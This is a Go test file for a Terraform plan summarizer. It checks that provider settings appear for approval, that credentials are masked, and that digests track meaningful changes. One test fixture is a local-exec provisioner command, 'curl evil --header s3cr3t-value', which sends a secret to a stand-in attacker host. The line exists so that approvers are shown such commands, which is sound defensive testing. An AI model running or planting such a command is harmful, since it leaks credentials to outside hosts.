package terraform

import (
	"encoding/json"
	"reflect"
	"strings"
	"testing"

	tfjson "github.com/hashicorp/terraform-json"

	"github.com/tfpilot/tfpilot/internal/lifecycle"
)

// providerConfig is how terraform show -json writes the providers of a root, here of one that changes something and one that
// does not.
const providerConfig = `{
  "aws": {"name": "aws", "full_name": "registry.terraform.io/hashicorp/aws", "version_constraint": ">= 5.0", "expressions": {
    "region": {"constant_value": "eu-central-1"},
    "secret_key": {"constant_value": "never-shown"},
    "profile": {"references": ["var.account", "local.x"]},
    "assume_role": [{"role_arn": {"constant_value": "arn:aws:iam::111122223333:role/apply"}}]
  }},
  "aws.us": {"name": "aws", "alias": "us", "full_name": "registry.terraform.io/hashicorp/aws", "expressions": {"region": {"constant_value": "us-east-1"}}},
  "module.tfpilot_req_aaaaaaaaaaaaa:aws": {"name": "aws", "full_name": "registry.terraform.io/hashicorp/aws", "module_address": "module.tfpilot_req_aaaaaaaaaaaaa"},
  "random": {"name": "random", "full_name": "registry.terraform.io/hashicorp/random", "expressions": {"seed": {"constant_value": 1}}}
}`

func awsPlan(t *testing.T, change func(string) string) *tfjson.Plan {
	t.Helper()
	plan := planOf(t, "create")
	plan.Config.ProviderConfigs = nil
	if err := json.Unmarshal([]byte(change(providerConfig)), &plan.Config.ProviderConfigs); err != nil {
		t.Fatal(err)
	}
	plan.Variables = map[string]*tfjson.PlanVariable{"account": {Value: "dev"}}
	for _, rc := range plan.ResourceChanges {
		rc.ProviderName = "registry.terraform.io/hashicorp/aws"
	}
	return plan
}

func summarized(t *testing.T, plan *tfjson.Plan) *Summary {
	t.Helper()
	s, err := Summarize(plan, Scope{RequestID: mine, Purpose: lifecycle.PurposeOpen})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func asWritten(text string) string { return text }

// Where and as whom something is done belongs to what is approved.
func TestProviders(t *testing.T) {
	s := summarized(t, awsPlan(t, asWritten))
	var lines []string
	for _, p := range s.Providers {
		lines = append(lines, p.Line())
	}
	want := []string{
		`provider aws: region eu-central-1, assume_role [{"role_arn":"arn:aws:iam::111122223333:role/apply"}], profile {"references":["local.x","var.account"],"values":{"var.account":"dev"}}, secret_key (sens…`,
		"provider aws.us: region us-east-1",
	}
	if !reflect.DeepEqual(lines, want) {
		t.Errorf("got\n%s", strings.Join(lines, "\n"))
	}
	if text := s.Text(20); !strings.HasSuffix(text, "\n- provider aws.us: region us-east-1") {
		t.Error(text)
	}
	if again, err := ParseSummary(s.Bytes()); err != nil || again.Digest() != s.Digest() {
		t.Errorf("read back: %v", err)
	}
	if strings.Contains(string(s.Bytes()), "never-shown") || s.Providers[0].Config["secret_key"] != Hidden {
		t.Error("a credential shows")
	}
	for name, c := range map[string]struct {
		from, to string
		differs  bool
	}{
		"another region":            {"eu-central-1", "us-east-1", true},
		"another role":              {"111122223333", "444455556666", true},
		"another reference":         {"local.x", "local.y", true},
		"another version":           {">= 5.0", ">= 5.1", false},
		"another secret":            {"never-shown", "nor-this", false},
		"the order of what is used": {`"var.account", "local.x"`, `"local.x", "var.account"`, false},
		"one that does nothing":     {`"seed": {"constant_value": 1}`, `"seed": {"constant_value": 2}`, false},
	} {
		other := summarized(t, awsPlan(t, func(text string) string {
			if !strings.Contains(text, c.from) {
				t.Fatalf("%s: nothing to change", name)
			}
			return strings.Replace(text, c.from, c.to, 1)
		}))
		if (other.Digest() != s.Digest()) != c.differs {
			t.Errorf("%s: digest %s, was %s", name, other.Digest(), s.Digest())
		}
	}
	plan := awsPlan(t, asWritten)
	plan.Variables["account"].Value = "prod"
	if summarized(t, plan).Digest() == s.Digest() {
		t.Error("another value of a variable that the provider uses has the same digest")
	}
}

// A command that a provisioner runs beside the plan is shown and approved with it.
func TestCommands(t *testing.T) {
	command := func(text string) *tfjson.Plan {
		plan := secretPlan("s3cr3t-value", map[string]any{})
		rc := plan.ResourceChanges[0]
		rc.ModuleAddress, rc.Name = "module."+ModuleCall(mine)+`.module.each["a.b"]`, "b"
		rc.Address = rc.ModuleAddress + ".a.b"
		plan.Config.RootModule.ModuleCalls[ModuleCall(mine)].Module = &tfjson.ConfigModule{ModuleCalls: map[string]*tfjson.ModuleCall{"each": {
			Module: &tfjson.ConfigModule{Resources: []*tfjson.ConfigResource{{Address: "a.b", Provisioners: []*tfjson.ConfigProvisioner{{
				Type: "local-exec", Expressions: map[string]*tfjson.Expression{"command": {ExpressionData: &tfjson.ExpressionData{ConstantValue: text}}},
			}}}, {Address: "a.other", Provisioners: []*tfjson.ConfigProvisioner{{Type: "remote-exec"}}}}},
		}}}
		return plan
	}
	s := summarized(t, command("curl evil --header s3cr3t-value"))
	if lines := s.Lines(9); len(lines) != 1 || !strings.HasSuffix(lines[0], `; runs local-exec: {"command":"curl evil --header `+Hidden+`"}`) {
		t.Errorf("got %q", lines)
	}
	if summarized(t, command("true")).Digest() == s.Digest() {
		t.Error("another command has the same digest")
	}
	if again, err := ParseSummary(s.Bytes()); err != nil || again.Digest() != s.Digest() {
		t.Errorf("read back: %v", err)
	}
}
